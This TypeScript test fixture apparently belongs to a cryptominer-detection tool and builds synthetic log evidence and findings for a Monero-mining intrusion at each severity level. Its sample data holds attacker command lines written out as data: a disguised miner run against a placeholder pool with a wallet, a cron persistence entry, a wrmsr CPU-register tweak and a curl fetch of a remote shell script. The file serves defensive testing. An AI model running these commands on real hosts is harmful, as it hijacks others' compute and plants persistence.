import type { Coverage } from '#shared/model/coverage.ts';
import { eventHash } from '#shared/model/evidence.ts';
import type { DecidedEvidence, Finding } from '#shared/model/finding.ts';
import { CHAIN_GROUPS, type Group, type Severity } from '#shared/model/groups.ts';
import type { Sample } from '#shared/model/indicator.ts';
import type { Artifact, Place } from '#shared/model/place.ts';
import { hourOf } from '#shared/model/time.ts';

export const START = Date.UTC(2026, 2, 1, 10, 0, 5);
const MINUTE = 60_000;
export const WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';

export const PLACE: Place = {
  ...{ account: '111122223333', region: 'eu-west-1', host: 'i-0123456789abcdef0', scope: 'host' },
};

export const COVERAGE: Coverage = {
  sources: [
    { format: 'auditd', records: 5120, from: START - 60 * MINUTE, to: START + 300 * MINUTE },
    { format: 'resolver', records: 310, from: START - 60 * MINUTE, to: START + 300 * MINUTE },
    { format: 'vpc-flow', records: 1, from: START, to: START },
  ],
  process: true,
  resolver: true,
  flow: true,
};

export const FLOWS_ONLY: Coverage = {
  ...{ sources: [{ format: 'vpc-flow', records: 900 }], process: false, resolver: false, flow: true },
};

export function sample(minute: number, fields: Partial<Sample> = {}): Sample {
  const time = START + minute * MINUTE;
  return {
    time,
    id: `web-1/${time}:${minute}`,
    source: 'auditd',
    raw: { file: 'audit.log', line: 100 + minute },
    ...fields,
  };
}

/** Evidence of one sample, strong unless told otherwise. */
export function evidence(
  group: Group,
  rule: string,
  technique: string,
  one: Sample,
  fields: Partial<DecidedEvidence> = {},
): DecidedEvidence {
  return {
    ...{ place: PLACE, hour: hourOf(one.time), group, rule, linkKey: '-', ruleVersion: 1, technique, first: one.time },
    ...{ strength: 'strong', decided: 'strong', flags: [], artifacts: [], events: [eventHash(one.id)], more: false },
    samples: [one],
    why: `${rule}: matched`,
    ...fields,
  };
}

const IDENTITY = { uid: '1000', auid: '1000', session: '7', tty: 'pts0' };

export const MINER = evidence(
  'miner_execution',
  'miner_arguments',
  'T1496.001',
  sample(0, {
    ...{ pid: 4242, parentPid: 4100, executable: '/tmp/.x/kworkerd', parentName: 'bash', workingDirectory: '/tmp/.x' },
    commandLine: `./kworkerd -o pool.example.com:3333 -u ${WALLET}.rig01 -p [redacted] --coin monero -t 4 --config=/tmp/.x/config.json`,
    ...IDENTITY,
    ancestors: ['bash', 'sshd'],
  }),
  {
    linkKey: 'ses:7',
    why: 'option --coin with a verified wallet (xmrig usage.h)',
    artifacts: [
      ...(['algo:rx/0', 'coin:XMR', 'path:/tmp/.x/kworkerd', 'pool:pool.example.com:3333'] as const),
      ...([`wallet:${WALLET}`, 'worker:rig01'] as const),
    ],
  },
);

export const LOOKUP = evidence(
  'pool_connection',
  'pool_lookup',
  'T1071.004',
  sample(1, {
    source: 'resolver',
    query: 'pool.example.com',
    answer: '198.51.100.7',
    raw: { logGroup: 'resolver', logStream: 'vpc-1', eventId: '36' },
  }),
  { flags: ['answered', 'lookup'], artifacts: ['pool:pool.example.com'], why: 'pool.example.com, named by the miner' },
);

export const SESSION = evidence(
  'pool_connection',
  'pool_connection/198.51.100.7:3333',
  'T1071',
  sample(2, { source: 'vpc-flow', remote: '198.51.100.7:3333', bytes: 5120, success: true }),
  {
    flags: ['session'],
    artifacts: ['pool:198.51.100.7:3333'],
    minutes: { out: (1n << 40n) - 1n, back: 0xffn },
    because: 'a session of 40 minutes',
  },
);

export const CRON = evidence(
  'persistence_setup',
  'cron_entry',
  'T1053.003',
  sample(65, { pid: 4300, path: '/var/spool/cron/root', executable: '/usr/bin/crontab', ...IDENTITY }),
  { linkKey: 'ses:7', artifacts: ['cmd:/tmp/.x/kworkerd -B', 'path:/var/spool/cron/root'] },
);

export const TUNING = evidence(
  'system_optimization',
  'msr_write',
  'T1496.001',
  sample(130, { pid: 4400, executable: '/usr/sbin/wrmsr', commandLine: 'wrmsr -a 0x1a4 0xf', ...IDENTITY }),
  { linkKey: 'ses:7', artifacts: ['register:0x1a4'] },
);

export const DOWNLOAD = evidence(
  'context',
  'piped_code',
  'T1105',
  sample(-3, { pid: 4090, commandLine: 'curl -s http://203.0.113.9/x.sh', ...IDENTITY }),
  { linkKey: 'ses:7', decided: 'note', artifacts: ['url:http://203.0.113.9/x.sh'] },
);

const ORDER: readonly Severity[] = ['Low', 'Medium', 'High', 'Critical'];

/** A finding of the given evidence, with groups, hours and artifacts that agree with it. */
export function finding(severity: Severity, all: readonly DecidedEvidence[], fields: Partial<Finding> = {}): Finding {
  const groups: Finding['groups'] = Object.fromEntries(
    [...new Set(all.map((one) => one.group))].map((group) => {
      const of = all.filter((one) => one.group === group);
      const first = Math.min(...of.map((one) => one.first));
      const lastHour = Math.max(...of.map((one) => one.hour));
      return [group, { first, lastHour, strength: 'strong', rules: of.map((one) => one.rule) }];
    }),
  );
  const above = ORDER[ORDER.indexOf(severity) + 1];
  const missing = CHAIN_GROUPS.filter((group) => groups[group] === undefined);
  return {
    ...{ id: '5f0c1d2e3a4b5c6d7e8f901234567890', episode: 1, revision: 2, state: 'open', severity, place: PLACE },
    rises: [{ severity, at: Math.max(...all.filter((one) => one.group !== 'context').map((one) => one.first)) }],
    hours: { from: Math.min(...all.map((one) => one.hour)), to: Math.max(...all.map((one) => one.hour)) },
    groups,
    artifacts: [...new Set(all.flatMap((one) => one.artifacts))].sort() as Artifact[],
    linkKeys: [...new Set(all.map((one) => one.linkKey))],
    evidence: all,
    ...(above === undefined ? {} : { next: { severity: above, needs: missing.slice(0, 1) } }),
    missing,
    leftOut: [],
    apart: [],
    notes: [],
    ...fields,
  };
}

/** One finding for each severity, each with something that the others lack. */
export const BY_SEVERITY: Readonly<Record<Severity, { readonly finding: Finding; readonly coverage: Coverage }>> = {
  Critical: {
    finding: finding('Critical', [DOWNLOAD, MINER, LOOKUP, SESSION, CRON, TUNING], {
      rises: [
        { severity: 'Medium', at: LOOKUP.first },
        { severity: 'High', at: CRON.first },
        { severity: 'Critical', at: TUNING.first },
      ],
    }),
    coverage: COVERAGE,
  },
  High: {
    finding: finding('High', [MINER, LOOKUP, CRON], {
      leftOut: [
        { evidence: { ...TUNING, decided: 'note' }, why: 'belongs to login session 9, another than the miner' },
      ],
      apart: [{ linkKeys: ['ses:9'], groups: ['system_optimization'] }],
      notes: ['The pool was looked up; no connection to it was seen.'],
    }),
    coverage: { ...COVERAGE, sources: COVERAGE.sources.slice(0, 2), flow: false },
  },
  Medium: {
    finding: finding(
      'Medium',
      [SESSION, { ...SESSION, group: 'miner_execution', rule: 'sustained_session', decided: 'weak' }],
      {
        place: { account: '-', region: '-', host: 'eni-0a1b2c3d4e5f60718', scope: 'network' },
      },
    ),
    coverage: FLOWS_ONLY,
  },
  Low: {
    finding: finding(
      'Low',
      [MINER, CRON].map((one) => inPod(one)),
      {
        place: { ...PLACE, scope: 'shop/cart/app' },
      },
    ),
    coverage: { ...COVERAGE, sources: COVERAGE.sources.slice(0, 1), resolver: false, flow: false },
  },
};

function inPod(one: DecidedEvidence): DecidedEvidence {
  const pod = {
    pod: 'shop/cart-5d9c7b-x2x4z',
    container: '3f4e5d6c7b8a',
    image: 'registry.example.com/cart@sha256:aa11',
  };
  return { ...one, linkKey: '-', samples: one.samples.map((old) => ({ ...old, ...pod })) };
}
